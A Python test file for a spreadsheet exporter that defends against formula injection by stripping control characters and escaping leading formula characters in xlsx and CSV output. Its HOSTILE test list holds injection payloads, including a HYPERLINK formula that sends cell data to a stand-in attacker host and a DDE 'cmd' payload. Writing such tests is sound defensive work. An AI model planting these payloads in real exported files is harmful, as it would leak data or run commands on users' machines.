"""The one spreadsheet writer: control characters stripped, then formulas escaped, text typed as text."""

import csv
import io

import pytest
from openpyxl import load_workbook

from balint.core.spreadsheets import Sheet, cell_text, csv_bytes, safe_cell, xlsx_book, xlsx_bytes

HOSTILE = [
    '\x01=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "\x00\x1f+SUM(A1:A9)",
    "\x85-2+3",
    "\x7f@cmd",
    "\u200b=1+1",
    " =1+1",
    "\ufeff=cmd|' /C calc'!A0",
    "\uff1d1+1",
    "\t=x",
    "\r=x",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_it_escapes_a_formula_hidden_behind_a_control_or_invisible_character(text):
    cell = cell_text(text)
    assert cell.startswith("'")
    assert not any(ord(ch) < 32 and ch not in "\t\r\n" or 0x7F <= ord(ch) <= 0x9F for ch in cell)


def test_it_keeps_ordinary_text_and_typed_values():
    assert cell_text("A patient, 2 visits; e-mail ok") == "A patient, 2 visits; e-mail ok"
    assert cell_text("line one\nline\ttwo") == "line one\nline\ttwo"
    assert safe_cell(3) == 3 and safe_cell(None) == "" and safe_cell(float("nan")) == "nan"
    assert cell_text("bell\x07 in the middle") == "bell in the middle"
    assert cell_text("half \ud83d of an emoji") == "half \ufffd of an emoji"


def test_no_cell_of_the_xlsx_is_a_formula_and_no_input_makes_it_fail():
    every_control = "".join(chr(c) for c in range(0, 0xA0) if c < 32 or c >= 0x7F)
    rows = [[text, 1] for text in HOSTILE] + [[every_control + "=1+1", 2], ["x" * 40_000, 3]]
    book = load_workbook(io.BytesIO(xlsx_bytes("Odd: title/with*chars?", ["=A", "B"], rows)))
    sheet = book.active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert all(cell.data_type != "f" for cell in cells)
    assert all(not str(cell.value).startswith(("=", "+", "-", "@")) for cell in cells)
    assert len(sheet["A13"].value) == 32_767
    assert sheet.title == "Odd  title with chars"


def test_every_sheet_of_a_book_goes_through_the_same_rule():
    data = xlsx_book(
        [
            Sheet(title="Summary", preamble=[["\x01=1+1"]], header=["A"], rows=[["\x02@x"]]),
            Sheet(title="Summary", header=["B"], rows=[["-1"]]),
        ]
    )
    book = load_workbook(io.BytesIO(data))
    assert book.sheetnames == ["Summary", "Summary (2)"]
    values = [c.value for ws in book.worksheets for row in ws.iter_rows() for c in row if c.value]
    assert values == ["'=1+1", "A", "'@x", "B", "'-1"]


def test_the_csv_holds_no_formula_and_no_control_character():
    text = csv_bytes(["h"], [[t] for t in HOSTILE]).decode("utf-8-sig")
    cells = [row[0] for row in csv.reader(io.StringIO(text))][1:]
    assert len(cells) == len(HOSTILE) and all(cell.startswith("'") for cell in cells)
    assert "\x01" not in text and "\x85" not in text
